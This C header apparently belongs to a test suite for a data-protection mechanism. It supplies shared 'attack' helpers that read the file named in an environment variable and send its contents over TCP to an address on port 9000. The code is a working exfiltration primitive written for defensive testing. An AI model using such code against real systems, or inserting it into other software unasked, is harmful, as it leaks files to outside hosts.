/* SPDX-License-Identifier: GPL-2.0 */
/*
 * attack.h - what every attack does: obtain the data when it says so, go to a
 * sink, and tell what failed
 *
 * An attack prints "CALL ERRNO" for each call that fails and ends with 1 on
 * the first that it can't do without; with 0 only if all of them succeeded.
 */
#ifndef RF_ATTACK_H
#define RF_ATTACK_H

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#define ATTACK_PORT 9000
#define ATTACK_WAIT_MS 20000

union attack_addr {
	struct sockaddr any;
	struct sockaddr_in v4;
	struct sockaddr_in6 v6;
};

struct attack_data {
	size_t len;
	char bytes[8192];
};

static struct attack_data data __attribute__((aligned(4096)));
static int attack_status;

static inline const char *attack_errno(int err)
{
	const char *name = strerrorname_np(err);

	return name ?: "UNKNOWN";
}

/* Says which call failed and how; the attack goes on. */
static inline void attack_note(const char *call, int err)
{
	printf("%s %s\n", call, attack_errno(err));
	fflush(stdout);
	attack_status = 1;
}

/* Takes a call's result through, ends the attack if it is negative. */
static inline long attack_do(const char *call, long result)
{
	if (result >= 0)
		return result;
	attack_note(call, errno);
	exit(1);
}

/* The moment that gives the label: opens $FILE and reads all of it. */
static inline void attack_obtain_into(struct attack_data *into)
{
	int fd = attack_do("open", open(getenv("FILE"), O_RDONLY | O_CLOEXEC));

	into->len = attack_do("read", read(fd, into->bytes, sizeof(into->bytes)));
	close(fd);
}

static inline void attack_obtain(void)
{
	attack_obtain_into(&data);
}

static inline socklen_t attack_len(const union attack_addr *addr)
{
	return addr->any.sa_family == AF_INET ? sizeof(addr->v4) : sizeof(addr->v6);
}

/* @text: an address, IPv6 possibly with %SCOPE as a number */
static inline union attack_addr attack_addr_port(const char *text, int port)
{
	union attack_addr addr = { .v4 = { .sin_family = AF_INET, .sin_port = htons(port) } };
	char copy[64], *scope;

	if (inet_pton(AF_INET, text, &addr.v4.sin_addr) == 1)
		return addr;
	snprintf(copy, sizeof(copy), "%s", text);
	scope = strchr(copy, '%');
	if (scope)
		*scope++ = 0;
	memset(&addr, 0, sizeof(addr));
	addr.v6.sin6_family = AF_INET6;
	addr.v6.sin6_port = htons(port);
	addr.v6.sin6_scope_id = scope ? atoi(scope) : 0;
	if (inet_pton(AF_INET6, copy, &addr.v6.sin6_addr) != 1) {
		printf("address EINVAL\n");
		exit(2);
	}
	return addr;
}

static inline union attack_addr attack_addr(const char *text)
{
	return attack_addr_port(text, ATTACK_PORT);
}

static inline int attack_socket(const union attack_addr *addr, int type, int protocol)
{
	return attack_do("socket", socket(addr->any.sa_family, type, protocol));
}

/* A TCP connection, established. */
static inline int attack_connected_port(const char *text, int port)
{
	union attack_addr addr = attack_addr_port(text, port);
	int fd = attack_socket(&addr, SOCK_STREAM, 0);

	attack_do("connect", connect(fd, &addr.any, attack_len(&addr)));
	return fd;
}

static inline int attack_connected(const char *text)
{
	return attack_connected_port(text, ATTACK_PORT);
}

static inline bool attack_poll(int fd, short events)
{
	struct pollfd wait = { .fd = fd, .events = events };

	return poll(&wait, 1, ATTACK_WAIT_MS) == 1;
}

/* Waits until the peer has said something, so that it has what was sent. */
static inline void attack_answer(int fd)
{
	char byte;

	if (attack_poll(fd, POLLIN))
		attack_do("recv", recv(fd, &byte, 1, 0));
}

/* Sends all of the data on a connected stream. */
static inline void attack_send(int fd)
{
	size_t done = 0;

	while (done < data.len)
		done += attack_do("send",
				  send(fd, data.bytes + done, data.len - done, MSG_NOSIGNAL));
}

/* True if word @n of the command line is @word. */
static inline bool attack_is(char **argv, int n, const char *word)
{
	return argv[n] && !strcmp(argv[n], word);
}

#endif /* RF_ATTACK_H */
